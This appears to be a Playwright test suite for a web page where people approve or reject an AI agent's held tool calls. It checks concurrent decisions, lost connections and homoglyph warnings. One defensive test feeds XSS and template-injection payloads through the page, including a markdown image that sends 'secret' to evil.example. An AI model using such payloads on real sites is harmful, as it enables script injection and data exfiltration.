"""One approval: what is shown of it, how it is decided, and what happens when others decide."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from agentstate.ground.approvals import Decision
from tests.helpers.browser import button, expect
from tests.helpers.desk import MAIL, Desk
from tests.web.acts import items, open_approvals, settle

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = pytest.mark.browser

NARROW = {"width": 360, "height": 800}


# -- deciding


def test_approving_lets_the_call_out_and_opens_the_next(desk: Desk, page: Page) -> None:
    (first,) = desk.hold()
    (second,) = desk.hold(("delete_database", "{}"))
    open_approvals(page)
    page.get_by_label("You decide as").fill("Ann")
    settle(page, "send_email")

    button(page, "Approve").click()

    settle(page, "delete_database")
    expect(page.get_by_role("status").first).to_be_visible()
    expect(page.locator(".head .lead")).to_have_text("Approved send_email, step 0 of billing.")
    expect(items(page)).to_have_count(1)
    assert desk.decision(first) == Decision(True, "Ann")
    assert desk.read(second).decision is None
    page.reload()
    expect(page.get_by_label("You decide as")).to_have_value("Ann")


@pytest.mark.parametrize("then", ["stop", "continue"])
def test_a_rejection_takes_a_reason_and_says_what_follows(
    desk: Desk, page: Page, then: Any
) -> None:
    (held,) = desk.hold()
    open_approvals(page)
    settle(page, "send_email")

    page.get_by_label("Reason").fill("Not this customer.")
    button(page, f"Reject and {then}").click()

    expect(page.locator(".detail")).to_have_count(0)
    expect(page.locator(".head .lead")).to_have_text("Rejected send_email, step 0 of billing.")
    assert desk.decision(held) == Decision(False, None, "Not this customer.", None, then)


def test_a_stop_ends_the_whole_answer_and_another_is_opened(desk: Desk, page: Page) -> None:
    first, sibling = desk.hold(("send_email", MAIL), ("delete_database", "{}"))
    desk.hold(("stripe_charge", "{}"))
    open_approvals(page)
    settle(page, "send_email")

    button(page, "Reject and stop").click()

    settle(page, "stripe_charge")
    expect(page.locator(".row-tool")).to_have_text(["stripe_charge"])
    assert desk.decision(first).then == desk.decision(sibling).then == "stop"


def test_a_second_click_does_not_decide_what_came_after(desk: Desk, page: Page) -> None:
    (first,) = desk.hold()
    (second,) = desk.hold()
    open_approvals(page)
    settle(page, "send_email")

    page.get_by_label("Reason").fill("x")  # so that the button does not move
    button(page, "Approve").dblclick()

    expect(items(page)).to_have_count(1)
    settle(page, "send_email")
    assert desk.decision(first).is_approved
    assert desk.read(second).decision is None


def test_somebody_who_was_faster_is_named(desk: Desk, page: Page) -> None:
    (held,) = desk.hold()
    open_approvals(page)
    settle(page, "send_email")
    page.route("**/api/approvals/pending", lambda route: route.abort())
    desk.decide(held, Decision(False, "Bob", "No.", then="stop"))

    page.get_by_label("Reason").fill("Fine.")
    button(page, "Approve").click()

    expect(page.locator(".outcome")).to_contain_text("Somebody was faster: rejected by Bob")
    expect(page.locator(".outcome")).to_contain_text("No.")
    expect(page.locator(".outcome")).to_contain_text("What you typed was not sent.")
    expect(page.locator(".outcome")).to_be_focused()
    expect(page.locator(".decision")).to_be_hidden()
    assert desk.decision(held).by == "Bob"


def test_a_decision_made_elsewhere_shows_by_itself(desk: Desk, page: Page) -> None:
    (held,) = desk.hold()
    open_approvals(page)
    settle(page, "send_email")
    page.get_by_label("to", exact=True).fill("typing")

    desk.decide(held, Decision(True, "Bob"))

    expect(page.locator(".outcome")).to_contain_text("Somebody was faster: approved by Bob")
    expect(page.get_by_label("to", exact=True)).to_have_value("typing")
    expect(page.get_by_label("to", exact=True)).not_to_be_editable()
    expect(page.locator(".list")).to_be_hidden()


def test_a_decision_without_an_answer_is_not_taken_for_made(desk: Desk, page: Page) -> None:
    (held,) = desk.hold()
    open_approvals(page)
    settle(page, "send_email")
    page.route("**/action", lambda route: route.abort())

    button(page, "Approve").click()

    expect(page.locator(".decision .fault")).to_contain_text("not known whether the decision")
    page.unroute("**/action")
    button(page, "Approve").click()
    expect(page.locator(".detail")).to_have_count(0)
    assert desk.decision(held).is_approved


def test_a_lost_connection_is_said_and_found_again(desk: Desk, page: Page) -> None:
    desk.hold()
    page.route("**/api/events**", lambda route: route.abort())  # it would go on, and asks no more
    open_approvals(page)
    settle(page, "send_email")

    page.route("**/api/approvals/pending", lambda route: route.abort())
    expect(page.locator("#live")).to_have_text("Not connected")
    expect(page.locator(".approvals > .notice")).to_contain_text("The list could not be read.")
    expect(page.locator(".detail h2")).to_have_text("send_email")

    page.unroute("**/api/approvals/pending")
    expect(page.locator("#live")).to_have_text("Live")
    expect(page.locator(".approvals > .notice")).to_be_hidden()


# -- what a model may write


@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>\"'`</textarea></pre>",
        "[x](javascript:alert(1)) ![](http://evil.example/p.png?d=secret)",
        "{{constructor.constructor('alert(1)')()}}",
    ],
)
def test_markup_is_text_wherever_it_stands(desk: Desk, page: Page, text: str) -> None:
    arguments = json.dumps({text: text, "deep": [{text: text}]})
    (held,) = desk.hold(
        (text, arguments), session=text, prompt=text, rule=text, why=text, call_id=text
    )
    open_approvals(page)

    expect(page.locator(".detail h2")).to_have_text(text)
    expect(page.locator(".row-tool")).to_have_text(text)
    expect(page.get_by_role("textbox", name=text, exact=True)).to_have_value(text)
    expect(page.locator(".raw")).to_have_text(arguments)
    for fold in page.locator("summary").all():
        fold.click()
    assert page.locator("main :is(img, script, iframe, object, svg, b)").count() == 0
    desk.decide(held, Decision(False, text, text, then="stop"))
    expect(page.locator(".outcome")).to_contain_text(text)


def test_a_name_that_looks_like_another_is_flagged(desk: Desk, page: Page) -> None:
    desk.hold(("s\u0435nd_email", "{}"))
    open_approvals(page)

    expect(page.locator(".warning")).to_contain_text("\u0435 is U+0435")


def test_a_call_that_a_text_spells_is_for_reading(desk: Desk, page: Page) -> None:
    text = "Action: send_email\nAction Input: everybody"
    (held,) = desk.hold(("send_email", text), kind="text", call_id=None)
    open_approvals(page)

    expect(page.locator(".detail")).to_contain_text("The text of the answer asks to call")
    expect(page.locator(".raw")).to_have_text(text)
    assert page.locator(".arguments :is(input, textarea)").count() == 0
    expect(page.locator(".detail h3")).to_have_text(["Arguments, as the model sent them"])
    settle(page, "send_email")
    button(page, "Approve").click()
    expect(page.locator(".detail")).to_have_count(0)
    assert desk.decision(held).is_approved


def test_a_request_is_shown_whole_and_has_no_model_to_tell(desk: Desk, page: Page) -> None:
    body = {"model": "gpt-5", "seed": 12345678901234567890, "messages": []}
    held = desk.hold_request(body)
    open_approvals(page)

    expect(page.locator(".detail")).to_contain_text("A request asks to go to")
    expect(page.locator(".raw")).to_contain_text('"seed": 12345678901234567890')
    settle(page, "gpt-5")
    expect(button(page, "Reject and continue")).to_be_hidden()
    button(page, "Reject and stop").click()
    expect(page.locator(".detail")).to_have_count(0)
    assert not desk.decision(held).is_approved


def test_a_text_that_was_edited_is_shown_beside_what_was_sent(desk: Desk, page: Page) -> None:
    (held,) = desk.hold(("send_email", "not json"))
    desk.record(held, Decision(True, "Ann", arguments="rm a.txt"))  # as of a tool that takes text

    open_approvals(page, f"/{held}?status=APPROVED")

    expect(page.locator(".raw")).to_have_text(["rm a.txt", "not json"])
